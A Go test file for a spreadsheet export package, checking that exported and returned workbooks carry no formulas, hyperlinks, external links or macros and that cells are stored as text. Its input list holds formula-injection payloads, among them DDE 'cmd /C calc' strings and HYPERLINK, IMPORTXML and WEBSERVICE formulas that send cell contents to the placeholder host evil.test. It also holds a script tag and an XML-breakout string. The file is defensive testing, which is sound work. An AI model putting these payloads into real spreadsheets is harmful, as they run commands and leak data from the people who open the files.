package sheet_test

import (
	"archive/zip"
	"bytes"
	"io"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"unireg/record"
	"unireg/sheet"
)

// formulas are values that spreadsheets would compute, if they were let.
var formulas = []string{
	"=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "-2/28", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
	`=HYPERLINK("http://evil.test?x="&A1,"点击")`, `=IMPORTXML(CONCAT("http://evil.test/",A1),"//a")`, "=WEBSERVICE(\"http://evil.test\")",
	"%0A-1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", "\"=1+1", ";=1+1", ",=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")",
	"</t></is></c><c t=\"str\"><f>1+1</f>", "_x003D_1+1", "<script>alert(1)</script>", "0x1F\x00\x1f", "{=1+1}", "=\u202e1+1",
}

// computed are the parts of a workbook that make a cell more than text.
func computed(t *testing.T, content []byte) {
	t.Helper()
	archive, err := zip.NewReader(bytes.NewReader(content), int64(len(content)))
	require.NoError(t, err)
	for _, file := range archive.File {
		require.NotContains(t, file.Name, "externalLink")
		require.NotContains(t, file.Name, "vbaProject")
		if !strings.HasPrefix(file.Name, "xl/worksheets/sheet") {
			continue
		}
		part, err := file.Open()
		require.NoError(t, err)
		text, err := io.ReadAll(part)
		require.NoError(t, err)
		require.NotContains(t, string(text), "<f>", file.Name)
		require.NotContains(t, string(text), "<f ", file.Name)
		require.NotContains(t, string(text), "<hyperlink", file.Name)
	}
}

// A cell is text by its type, and by its format: editing it makes no formula
// of it either.
func texts(t *testing.T, f *excelize.File, name, cell string) {
	t.Helper()
	kind, err := f.GetCellType(name, cell)
	require.NoError(t, err)
	require.Contains(t, []excelize.CellType{excelize.CellTypeInlineString, excelize.CellTypeSharedString}, kind)
	id, err := f.GetCellStyle(name, cell)
	require.NoError(t, err)
	style, err := f.GetStyle(id)
	require.NoError(t, err)
	require.Equal(t, 49, style.NumFmt)
}

func TestW36_AnExportedListComputesNothing(t *testing.T) {
	list, err := sheet.NewList("获奖信息", []string{"奖项名称", "=1+1"})
	require.NoError(t, err)
	for _, text := range formulas {
		require.NoError(t, list.Add([]string{text, text}))
	}
	var content bytes.Buffer
	_, err = list.WriteTo(&content)
	require.NoError(t, err)
	computed(t, content.Bytes())
	f, err := excelize.OpenReader(&content)
	require.NoError(t, err)
	defer func() { require.NoError(t, f.Close()) }()
	rows, err := f.GetRows("获奖信息")
	require.NoError(t, err)
	require.Len(t, rows, len(formulas)+1)
	for i, text := range formulas {
		name, err := excelize.CoordinatesToCellName(1, i+2)
		require.NoError(t, err)
		texts(t, f, "获奖信息", name)
		if !strings.ContainsAny(text, "\x00\x1f\r") {
			require.Equal(t, text, rows[i+1][0], "what was typed is what is exported")
		}
	}
}

func TestW36_TheReturnedFileComputesNothing(t *testing.T) {
	rows := make([]record.IntakeRow, 0, len(formulas))
	for i, text := range formulas {
		p := record.Twin(&record.PractitionerDocument{}, text)
		rows = append(rows, record.IntakeRow{Line: i + 3, Cells: map[string]string{"name": text, "position": text}})
		rows[i].Problems = append(rows[i].Problems, p)
	}
	kind := definition(t, record.Practitioner)
	var content bytes.Buffer
	require.NoError(t, sheet.Returned(&content, kind, rows, today))
	computed(t, content.Bytes())
	w := reopened(t, record.Practitioner, content.Bytes())
	for i := range formulas {
		texts(t, w.File, w.name, w.cell(i+2, "姓名"))
		texts(t, w.File, w.name, w.cell(i+2, "问题"))
	}
}

func TestB16_AListMayBeLong(t *testing.T) {
	list, err := sheet.NewList("单位业绩", []string{"项目名称", "状态"})
	require.NoError(t, err)
	const lines = 6000
	for range lines {
		require.NoError(t, list.Add([]string{"示范家园", "草稿"}))
	}
	var content bytes.Buffer
	_, err = list.WriteTo(&content)
	require.NoError(t, err)
	f, err := excelize.OpenReader(&content)
	require.NoError(t, err)
	defer func() { require.NoError(t, f.Close()) }()
	rows, err := f.GetRows("单位业绩")
	require.NoError(t, err)
	require.Len(t, rows, lines+1)
}
